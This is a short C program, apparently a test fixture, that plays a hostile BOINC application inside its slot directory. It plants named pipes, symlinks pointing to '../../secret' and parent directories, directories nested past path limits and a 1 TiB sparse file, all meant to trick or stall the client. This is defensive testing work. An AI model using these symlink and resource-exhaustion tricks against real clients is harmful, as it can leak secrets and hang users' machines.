/* A native program that leaves in its slot, in place of each file that its client looks at, what would hold up or mislead it.
   Usage: hostile_app MARK, where MARK is the name of a file it makes at the end. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void pipe_at(const char *name) {
    unlink(name);
    mkfifo(name, 0600);
}

static void link_at(const char *name, const char *to) {
    unlink(name);
    if (symlink(to, name)) perror(name);
}

/* Announces a message and waits, at most half a minute, until its client has taken note. */
static void say(int channels, const char *text) {
    char one = 1, flag = 1;
    pwrite(channels, text, strlen(text) + 1, 6 * 1024 + 1);
    pwrite(channels, &one, 1, 6 * 1024);
    for (int i = 0; i < 600 && flag; i++) {
        usleep(50000);
        if (pread(channels, &flag, 1, 6 * 1024) != 1) break;
    }
}

int main(int argc, char **argv) {
    int slot = open(".", O_RDONLY);
    int channels = open("boinc_mmap_file", O_RDWR);
    pipe_at("trickle_up.xml");
    mkdir("boinc_ufr_folder", 0700);
    pipe_at("boinc_ufr_pipe");
    say(channels, "<have_new_trickle_up/><have_new_upload_file/>");
    unlink("trickle_up.xml");
    link_at("trickle_up.xml", "../../secret");
    say(channels, "<have_new_trickle_up/>");

    pipe_at("stderr.txt");
    pipe_at("boinc_finish_called");
    link_at("boinc_temporary_exit", "../../secret");
    link_at("init_data.xml", "../../secret");
    link_at("init_data.xml.new", "../../secret");
    rename(".tmp", "once.tmp");
    link_at(".tmp", "../..");
    link_at("out", "../../secret");
    /* Folders in folders, beyond what any path can name, the last one closed. */
    for (int i = 0; i < 60; i++) {
        char name[101];
        memset(name, 'd', 100);
        name[100] = 0;
        mkdir(name, 0700);
        if (chdir(name)) break;
    }
    int hole = open("hole", O_WRONLY | O_CREAT, 0600);
    ftruncate(hole, 1LL << 40);
    fchmod(open(".", O_RDONLY), 0);
    fchdir(slot);
    close(open(argc > 1 ? argv[1] : "mark", O_WRONLY | O_CREAT, 0600));
    for (int i = 0; i < 64; i++) close(i);
    return 0;
}
